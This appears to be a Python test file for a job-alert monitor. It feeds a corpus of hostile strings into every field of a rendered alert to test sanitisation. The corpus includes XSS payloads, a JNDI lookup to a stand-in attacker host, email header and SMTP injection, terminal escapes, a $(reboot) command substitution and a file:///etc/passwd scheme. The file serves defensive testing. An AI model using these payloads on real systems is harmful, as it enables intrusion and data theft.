"""Words that were made to hurt, as role, employer, place and name of a person. All invented."""

from __future__ import annotations

from dataclasses import replace

from monitor.drafts import compose, render
from monitor.model import Employer, Message, Reach
from tests.drafts.samples import ASK_DANA, BERLIN, DANA, ME, NOW, POSTING, ROLE, story

CORPUS = {
    "plain": "Data Engineer",
    "empty": "",
    "only spaces": " \t\u00a0\u2003 ",
    "html tags": "<b>Data</b> <i>Engineer</i></div></body></html>",
    "unclosed tag": "Data Engineer <a href='https://evil.example/x",
    "script": "<script>alert(document.cookie)</script>",
    "image that runs": "<img src=x onerror=alert(1)>",
    "svg that runs": "<svg/onload=alert(1)>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "style": "</style><style>*{display:none}</style>",
    "half closed html": "</b></i></code></pre></a></blockquote>",
    "telegram tags": "<tg-spoiler>x</tg-spoiler><a href='tg://user?id=1'>y</a><pre><code>",
    "matrix pill": "<a href='https://matrix.to/#/@room:evil.example'>@room</a> <mx-reply>",
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &bogus;",
    "markdown link": "[free pay](https://evil.example/phish)",
    "markdown javascript": "[free pay](javascript:alert(1)) ![x](javascript:alert(1))",
    "markdown reference": "[free pay][1]\n\n[1]: javascript:alert(1)",
    "markdown autolink": "<javascript:alert(1)> <https://evil.example> <data:text/html,x>",
    "markdown header": "# Data Engineer\n## Hired\n===",
    "markdown fence": "```\nData Engineer",
    "markdown styles": "**Data** __Engineer__ ~~now~~ ||spoiler|| > quote _x_ *y*",
    "everyone": "@everyone apply @here",
    "everyone in a word": "x@everyone y@here z@channel",
    "slack mentions": "<!channel> <!here|here> <@U024BE7LH> <#C024BE7LR|general> <!subteam^S1>",
    "slack link": "<https://evil.example|acme.example> <mailto:x@evil.example|mail>",
    "discord mentions": "<@123456789012345678> <@&987654321098765432> <#1122> <@!5> <id:customize>",
    "chat mentions": '@channel @all @room @jordan @[Jordan](contactinfo:1) @**all** @"group/x"',
    "google mention": "<users/all> <at>everyone</at>",
    "channels": "#general #random !channel",
    "header injection": "Data Engineer\r\nBcc: everyone@evil.example\r\nContent-Type: text/html\r\n\r\n<b>",
    "header by other breaks": "Data Engineer\u2028Bcc: x@evil.example\u0085Cc: y@z.example\x0bTo: z",
    "dots for smtp": "\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<y@evil.example>\r\nDATA",
    "escape": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b]0;title\x07",
    "c1": "\x9b31mred\x9d0;title\x9c \x90q\x9c",
    "bidi": "Data \u202eReenignE\u202c \u2066left\u2069 \u200fx",
    "zero width": "Da\u200bta\u200d En\ufeffgin\u2060eer\u00ad",
    "nul": "Data\x00 Engineer\x00",
    "surrogate": "Data \ud800 Engineer \udfff",
    "non characters": "Data \ufffe\uffff \U0010ffff \ue000 Engineer",
    "huge": "Data Engineer " + "x" * 100_000,
    "huge words": "Data Engineer <b>&amp; " * 5_000,
    "huge wide": "数据工程师" * 2_000,
    "right to left": "مهندس بيانات في برلين",
    "right to left mixed": "Engineer עברית (Berlin) 42",
    "emoji": "🚀 Data Engineer 👩🏽‍💻 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪🇺🇸 ❤️‍🔥",
    "only emoji": "🇩🇪🇺🇸🇫🇷" * 40,
    "combining storm": "D" + "\u0301\u0327\u0338" * 80 + "ata",
    "wide": "数据工程师（北京）ｆｕｌｌ",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%raw%} {0} {title}",
    "jndi": "${jndi:ldap://evil.example/x}",
    "percent": "%s %n %d %(name)s %00 %0d%0aBcc:x@evil.example",
    "backslashes": "\\ \\\\ \\n \\u0041 \\x41 C:\\Windows\\ \\",
    "quotes": "' \" ` “ ” « » '' \"\"",
    "backticks": "`job-monitor forget Dana` ``x`` $(reboot)",
    "json breaker": '"},{"role":"x"}],"title":"y","a":["',
    "xml breaker": "]]> <![CDATA[x]]> <?xml version='1.0'?> <!DOCTYPE a [<!ENTITY b 'c'>]> &b;",
    "form breaker": "a=b&c=d;e=f+g %26message=x",
    "url with user": "https://user:password@evil.example/ https://acme.example@evil.example/",
    "odd schemes": "javascript:alert(1) data:text/html,x file:///etc/passwd vbscript:x",
    "own mark": "[alert 000000000000] [alert x] (possible repeat)",
}
"""What to call it, and the words."""

KEY = "3fa9c1d20b77"
MARK = f"[alert {KEY}]"


def message(words: str, *, urgent: bool = True) -> Message:
    """The message about a role, at an employer, in a place and with a person, all of whom are called so."""
    person = replace(DANA, name=words, notes=words)
    employer = Employer(name=words, people=(person,))
    posting = replace(POSTING, title=words, locations=(words,), departments=(words,))
    reach = Reach(person=person, rung=ASK_DANA.rung, score=0.9, reasons=(f"{words} works in {words}",))
    told = story(
        key=KEY,
        employer=employer,
        role=replace(ROLE, posting=posting, reach=reach),
        places=(words,),
        ladder=(reach,),
        others=(),
        urgency="urgent" if urgent else "digest",
    )
    alert = compose(told, me=ME, now=NOW, zone=BERLIN)
    return render([alert], repeat=False, detail="full", now=NOW, zone=BERLIN)
